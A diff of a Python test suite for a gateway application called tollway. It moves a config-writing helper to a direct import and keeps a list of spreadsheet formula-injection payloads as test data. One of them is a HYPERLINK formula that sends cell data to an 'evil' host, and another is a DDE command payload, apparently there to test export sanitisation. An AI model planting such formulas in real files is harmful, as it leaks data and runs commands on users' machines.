@@ -10,6 +10,7 @@ from datetime import UTC, datetime
 from decimal import Decimal
 
 import psycopg
+from support.config import write_config
 
 FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)*cmd", "+cmd|' /C calc'!A0", "-2+3"]
 
@@ -59,9 +60,9 @@ async def test_cross_site_sign_in_and_sign_out_are_refused(app_factory, make_ten
     assert still_in.status_code == 200
 
 
-def test_the_session_cookie_is_secure_behind_a_trusted_tls_proxy(serve, sim, pg, redis_url, helpers, make_tenant,
+def test_the_session_cookie_is_secure_behind_a_trusted_tls_proxy(serve, sim, pg, redis_url, make_tenant,
                                                                   tmp_path):
-    config = helpers.write_config(tmp_path / "tollway.yaml", sim.url)
+    config = write_config(tmp_path / "tollway.yaml", sim.url)
     env = {"TOLLWAY_DATABASE_URL": pg.url, "TOLLWAY_REDIS_URL": redis_url, "TOLLWAY_BOOTSTRAP": "false",
            "TOLLWAY_FORWARDED_ALLOW_IPS": "127.0.0.1"}
     gateway = serve("--config", str(config), env=env)
